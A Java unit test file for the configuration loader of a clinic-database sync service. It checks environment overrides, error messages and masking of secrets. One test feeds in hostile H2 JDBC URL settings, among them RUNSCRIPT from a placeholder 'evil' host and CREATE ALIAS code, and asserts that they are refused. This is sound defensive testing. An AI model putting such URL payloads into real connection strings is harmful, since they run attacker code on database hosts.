package com.alignersync.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigTest {

    @TempDir
    Path dir;

    private Path file(String text) throws IOException {
        Path file = dir.resolve("aligner-sync.properties");
        Files.writeString(file, text);
        return file;
    }

    @Test
    void environmentOverridesTheFile() throws IOException {
        Settings settings = Settings.load(file("sqlserver.jdbc-url=jdbc:h2:mem:file\nsqlserver.user=from-file\n"), true,
                Map.of("SQLSERVER_USER", "from-env", "SQLSERVER_PASSWORD", "s3cret"));
        ConfigReader reader = new ConfigReader(settings);
        SqlServerConfig config = SqlServerConfig.from(reader);
        reader.throwIfProblems();
        assertEquals("jdbc:h2:mem:file", config.jdbcUrl());
        assertEquals("from-env", config.user());
        assertEquals("s3cret", config.password());
        assertEquals(ZoneId.of("UTC"), config.timeZone());
    }

    @Test
    void everyProblemIsReportedAtOnceNamingTheKeyAndTheFix() throws IOException {
        Settings settings = Settings.load(file("sqlserver.pool-size=zero\nsink.notes.delete-mode=purge\nsqlserver.time-zone=Mars/Olympus\n"),
                true, Map.of());
        ConfigReader reader = new ConfigReader(settings);
        SqlServerConfig.from(reader);
        SinkConfig.from(reader);
        ConfigException e = assertThrows(ConfigException.class, reader::throwIfProblems);
        assertEquals(4, e.problems().size(), e.getMessage());
        assertTrue(e.getMessage().contains("sqlserver.jdbc-url (env SQLSERVER_JDBC_URL) is not set: JDBC URL of the clinic database"));
        assertTrue(e.getMessage().contains("sqlserver.pool-size (env SQLSERVER_POOL_SIZE) is 'zero': expected a whole number from 1 to 64"));
        assertTrue(e.getMessage().contains("expected one of delete, ignore"));
        assertTrue(e.getMessage().contains("expected a time zone id"));
    }

    @Test
    void sinkDefaultsComeFromTheKeys() {
        ConfigReader reader = new ConfigReader(Settings.of(Map.of()));
        SinkConfig config = SinkConfig.from(reader);
        reader.throwIfProblems();
        assertEquals(SinkConfig.defaults(), config);
        assertEquals(Duration.ofMillis(200), config.retryInitialBackoff());
    }

    @Test
    void secretsAreMaskedWhenTheConfigurationIsDescribed() throws IOException {
        Settings settings = Settings.load(file("sqlserver.password=hunter2\n"), true,
                Map.of("WEBHOOK_SECRET", "whsec-abc", "SUPABASE_SERVICE_ROLE_KEY", "eyJhbGciOi"));
        String described = settings.describe().toString();
        assertFalse(described.contains("hunter2"));
        assertFalse(described.contains("whsec-abc"));
        assertFalse(described.contains("eyJhbGciOi"));
        assertTrue(described.contains("webhook.secret=****  [env WEBHOOK_SECRET]"), described);
        SqlServerConfig config = new SqlServerConfig("jdbc:h2:mem:x", "sa", "hunter2", 1, ZoneId.of("UTC"));
        assertFalse(config.toString().contains("hunter2"));
    }

    @Test
    void aPasswordInsideTheJdbcUrlIsMaskedWhereverTheUrlIsShown() throws IOException {
        String url = "jdbc:sqlserver://db:1433;databaseName=Clinic;user=sync;password=hunter2;encrypt=true;trustStorePassword=tr0ub4dor";
        Settings settings = Settings.load(file("sqlserver.jdbc-url=" + url + "\n"), true, Map.of());
        String described = settings.describe().toString();
        assertFalse(described.contains("hunter2"), described);
        assertFalse(described.contains("tr0ub4dor"), described);
        assertTrue(described.contains("databaseName=Clinic;user=sync;password=****;encrypt=true;trustStorePassword=****"), described);
        String shown = new SqlServerConfig(url, "sa", "", 1, ZoneId.of("UTC")).toString();
        assertFalse(shown.contains("hunter2") || shown.contains("tr0ub4dor"), shown);
        assertEquals("jdbc:h2:mem:x;MODE=MSSQLServer;PASSWORD=****", UrlSecrets.mask("jdbc:h2:mem:x;MODE=MSSQLServer;PASSWORD=a;b"
                .replace(";b", "")));
    }

    @Test
    void anH2UrlThatRunsCodeWhenItConnectsIsRefusedNamingTheKeyAndTheFix() {
        for (String setting : List.of("INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "init=CREATE ALIAS EXEC AS 'String x() {return \"\";}'",
                "INIT=SELECT 1\\;RUNSCRIPT FROM 'x'", "DATABASE_EVENT_LISTENER=org.example.Listener", "JAVA_OBJECT_SERIALIZER=org.example.S",
                "AUTHENTICATOR=org.example.A")) {
            ConfigReader reader = new ConfigReader(Settings.of(Map.of("sqlserver.jdbc-url", "jdbc:h2:mem:x;MODE=MSSQLServer;" + setting)));
            SqlServerConfig.from(reader);
            ConfigException e = assertThrows(ConfigException.class, reader::throwIfProblems, setting);
            assertEquals(1, e.problems().size(), e.getMessage());
            assertTrue(e.problems().get(0).startsWith("sqlserver.jdbc-url (env SQLSERVER_JDBC_URL) is an H2 URL with "), e.getMessage());
            assertTrue(e.getMessage().contains("remove"), e.getMessage());
            assertFalse(e.getMessage().contains("evil") || e.getMessage().contains("org.example"), "the URL is not echoed: " + e.getMessage());
        }
        // What run --embedded and the tests use.
        for (String fine : List.of("jdbc:h2:file:/srv/aligner-sync/data/embedded/clinic;MODE=MSSQLServer;AUTO_SERVER=TRUE",
                "jdbc:h2:mem:clinic-1;MODE=MSSQLServer;DB_CLOSE_DELAY=-1", "jdbc:h2:mem:x")) {
            ConfigReader reader = new ConfigReader(Settings.of(Map.of("sqlserver.jdbc-url", fine)));
            SqlServerConfig.from(reader);
            reader.throwIfProblems();
        }
    }

    @Test
    void aMissingExplicitFileIsAnError() {
        ConfigException e = assertThrows(ConfigException.class, () -> Settings.load(dir.resolve("nope.properties"), true, Map.of()));
        assertTrue(e.getMessage().contains("nope.properties does not exist"));
    }

    @Test
    void theFixedEnvironmentNamesAreKept() {
        assertEquals("SUPABASE_URL", ConfigKeys.SUPABASE_URL.env());
        assertEquals("SUPABASE_SERVICE_ROLE_KEY", ConfigKeys.SUPABASE_SERVICE_ROLE_KEY.env());
        assertEquals("SUPABASE_DB_URL", ConfigKeys.SUPABASE_DB_URL.env());
        assertEquals("SQLSERVER_JDBC_URL", ConfigKeys.SQLSERVER_JDBC_URL.env());
        assertEquals("WEBHOOK_SECRET", ConfigKeys.WEBHOOK_SECRET.env());
        assertEquals("DATA_DIR", ConfigKeys.DATA_DIR.env());
        assertEquals("PORT", ConfigKeys.PORT.env());
        assertEquals("SINK_NOTES_DELETE_MODE", ConfigKeys.SINK_NOTES_DELETE_MODE.env());
    }
}
